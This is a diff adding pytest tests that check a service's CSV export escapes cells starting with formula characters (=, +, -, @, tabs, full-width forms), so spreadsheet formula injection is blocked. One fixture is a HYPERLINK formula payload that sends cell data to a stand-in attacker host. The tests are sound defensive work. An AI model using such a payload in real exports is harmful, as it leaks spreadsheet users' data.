@@ -17,6 +17,7 @@ from typing import Any
 import pytest
 
 from api.access.tokens import ALL_TABLES, Role, TokenRefusedError, create_token, revoke_token
+from api.comma_separated import write_csv
 from api.journal.chain import Head, JournalBrokenError, entries, journal_head, note, parse_head, verify
 from api.journal.entry import Act, Deed
 from api.journal.policies import Policies
@@ -383,6 +384,24 @@ def test_csv_and_text_have_every_entry(inside: InProcessService) -> None:
     assert len(text.splitlines()) == 3
     assert 'a "quoted", name' in text
     assert "\x1b" not in text
+
+
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@"])
+def test_no_cell_of_the_csv_is_a_formula(inside: InProcessService, begin: str) -> None:
+    """A name from outside is text in a spreadsheet; the lines of JSON have it as it was given."""
+    folder, name = inside.settings.folder, f'{begin}HYPERLINK("https://evil.example/?x="&A1)'
+    create_token(database(inside), inside.service.clock, name, Role.ENGINE, [ALL_TABLES])
+    *_, row = csv.DictReader(io.StringIO(foredraw(folder, "journal", "--csv").stdout))
+    assert row["subject"] == f"'{name}"
+    assert json.loads(foredraw(folder, "journal", "--json").stdout.splitlines()[-1])["subject"] == name
+
+
+def test_whatever_begins_a_formula_is_text_and_numbers_stay_numbers() -> None:
+    """Tabs, ends of lines and the wide forms of the four characters, too."""
+    file = io.StringIO()
+    write_csv(file, [["\tx", "a\r=x", "\n=x", "\uff1dx", "a=x", "", -1, None]])
+    (row,) = csv.reader(io.StringIO(file.getvalue(), newline=""))
+    assert row == ["'\tx", "a\u240d=x", "'\n=x", "'\uff1dx", "a=x", "", "-1", ""]
 
 
 # What rebuilding leaves
